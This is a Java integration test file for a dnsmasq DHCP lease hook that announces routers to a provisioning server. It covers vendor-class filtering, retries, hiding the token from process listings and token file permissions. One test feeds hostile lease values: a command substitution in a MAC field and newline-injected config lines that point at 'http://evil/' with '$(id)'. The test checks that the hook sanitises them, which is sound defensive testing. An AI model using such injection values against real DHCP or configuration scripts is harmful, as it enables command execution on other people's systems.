package org.openztp.registration;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openztp.testkit.Lab;
import org.openztp.testkit.LabRouter;
import org.openztp.testkit.StandIn;

/** The lease hook as dnsmasq's dhcp-script in the lab, and called by hand. */
@Tag("lab")
class LeaseHookIT {
    private static final String MAC = "02:1a:b0:ff:00:01";

    @TempDir
    Path folder;

    private StandIn server;

    @BeforeEach
    void startServer() throws IOException {
        server = new StandIn("127.0.0.1", request -> StandIn.Answer.of(200, ""));
        settings(server.url(), "vendor_class=udhcp*");
    }

    @AfterEach
    void endServer() {
        server.close();
    }

    private void settings(String url, String... lines) throws IOException {
        Path token = Files.writeString(folder.resolve("token"), "ztp_secret-Token\n");
        Files.setPosixFilePermissions(token, PosixFilePermissions.fromString("rw-------"));
        List<String> conf = new ArrayList<>(List.of("url=" + url, "token_file=" + token));
        conf.addAll(List.of(lines));
        Files.write(folder.resolve("lease-hook.conf"), conf);
    }

    private Lab.Output hook(Map<String, String> environment, String... arguments) throws IOException {
        List<String> command = new ArrayList<>(List.of(
                "env",
                "ZTP_LEASE_CONF=" + folder.resolve("lease-hook.conf"),
                "ZTP_LEASE_LOCKS=" + folder.resolve("locks")));
        environment.forEach((name, value) -> command.add(name + "=" + value));
        command.addAll(List.of("sh", "conf/dhcp/lease-hook.sh"));
        command.addAll(List.of(arguments));
        return Lab.run(null, command);
    }

    private void awaitRequests(int count) {
        await().atMost(Duration.ofSeconds(20)).until(() -> server.requests().size() >= count);
    }

    private void awaitEnd() {
        await().atMost(Duration.ofSeconds(20)).until(() -> {
            String[] left = folder.resolve("locks").toFile().list();
            return left != null && left.length == 0;
        });
    }

    @Test
    void aStockRouterIsAnnouncedByDnsmasqAsSoonAsItHasItsLease() throws IOException {
        try (Lab lab = Lab.start(Map.of(
                        "DNSMASQ_SCRIPT",
                                Path.of("conf/dhcp/lease-hook.sh")
                                        .toAbsolutePath()
                                        .toString(),
                        "ZTP_LEASE_CONF", folder.resolve("lease-hook.conf").toString()));
                StandIn reached = new StandIn(lab.serverAddress(), request -> StandIn.Answer.of(200, ""))) {
            settings(reached.url(), "vendor_class=udhcp*");
            LabRouter router = lab.add();

            await().atMost(Duration.ofSeconds(20))
                    .until(() -> !reached.requests().isEmpty());

            StandIn.Request request = reached.requests().get(0);
            assertThat(request.path()).isEqualTo("/ztp/api/v1/leases");
            assertThat(request.headers()).containsEntry("authorization", "Bearer ztp_secret-Token");
            assertThat(request.form())
                    .containsEntry("mac", router.mac())
                    .containsEntry("address", router.ip())
                    .containsEntry("hostname", "OpenWrt");
        }
    }

    @Test
    void onlyRoutersAreAnnounced() throws IOException {
        assertThat(hook(Map.of("DNSMASQ_VENDOR_CLASS", "MSFT 5.0"), "add", MAC, "10.0.0.9", "laptop")
                        .exit())
                .isZero();
        assertThat(hook(Map.of(), "add", MAC, "10.0.0.9").exit()).isZero();
        assertThat(hook(Map.of("DNSMASQ_VENDOR_CLASS", "udhcp 1.36.1"), "del", MAC, "10.0.0.9")
                        .exit())
                .isZero();
        assertThat(hook(Map.of("DNSMASQ_VENDOR_CLASS", "udhcp 1.36.1"), "add", "06-" + MAC, "10.0.0.9")
                        .exit())
                .isZero();
        settings(server.url(), "vendor_class=", "mac_prefixes=aa:bb:cc 02:1A:B0");
        assertThat(hook(Map.of("DNSMASQ_VENDOR_CLASS", "udhcp 1.36.1"), "add", "04:00:00:00:00:01", "10.0.0.8")
                        .exit())
                .isZero();
        assertThat(hook(Map.of(), "add", MAC, "10.0.0.10").exit()).isZero();

        awaitRequests(1);
        awaitEnd();
        assertThat(server.requests())
                .singleElement()
                .satisfies(request -> assertThat(request.form()).containsEntry("address", "10.0.0.10"));
    }

    @Test
    void aServerThatIsAwayIsTriedAgainAndARefusalIsNot() throws IOException {
        server.answer(request -> StandIn.Answer.of(server.requests().size() < 3 ? 503 : 200, ""));
        hook(Map.of("DNSMASQ_VENDOR_CLASS", "udhcp 1.36.1"), "old", MAC, "10.0.0.9");
        awaitRequests(3);
        awaitEnd();
        assertThat(server.requests()).hasSize(3);

        server.answer(request -> StandIn.Answer.of(403, ""));
        hook(Map.of("DNSMASQ_VENDOR_CLASS", "udhcp 1.36.1"), "add", MAC, "10.0.0.9");
        awaitRequests(4);
        awaitEnd();
        assertThat(server.requests()).hasSize(4);
    }

    @Test
    void theTokenIsOnNoCommandLine() throws IOException {
        server.answer(request -> {
            try {
                String all = Lab.run(null, List.of("ps", "axww", "-o", "args")).text();
                return StandIn.Answer.of(
                        all.contains("ztp_secret-Token") || !all.contains("curl --silent") ? 500 : 200, "");
            } catch (IOException e) {
                return StandIn.Answer.of(500, "");
            }
        });
        hook(Map.of("DNSMASQ_VENDOR_CLASS", "udhcp 1.36.1"), "add", MAC, "10.0.0.9");
        awaitRequests(1);
        awaitEnd();
        assertThat(server.requests()).hasSize(1);
    }

    @Test
    void aTokenThatOthersCanReadIsNotUsed() throws IOException {
        Files.setPosixFilePermissions(folder.resolve("token"), PosixFilePermissions.fromString("rw-r--r--"));

        Lab.Output output = hook(Map.of("DNSMASQ_VENDOR_CLASS", "udhcp 1.36.1"), "add", MAC, "10.0.0.9");

        assertThat(output.exit()).isEqualTo(1);
        assertThat(output.text()).contains("chmod 600");
        assertThat(server.requests()).isEmpty();
    }

    @Test
    void hostileLeasesSayNothing() throws IOException {
        Map<String, String> router = Map.of("DNSMASQ_VENDOR_CLASS", "udhcp 1.36.1");
        assertThat(hook(router, "add", "$(touch " + folder + "/pwned)", "10.0.0.9")
                        .exit())
                .isZero();
        assertThat(hook(router, "add", MAC, "10.0.0.9\"\nurl = \"http://evil/").exit())
                .isZero();
        assertThat(hook(router, "add", MAC, "10.0.0.9", "a\"\nurl = \"http://evil/$(id)")
                        .exit())
                .isZero();

        awaitRequests(1);
        awaitEnd();
        assertThat(server.requests())
                .singleElement()
                .satisfies(request -> assertThat(request.form()).containsEntry("hostname", "aurlhttpevilid"));
        assertThat(folder.resolve("pwned")).doesNotExist();
    }
}
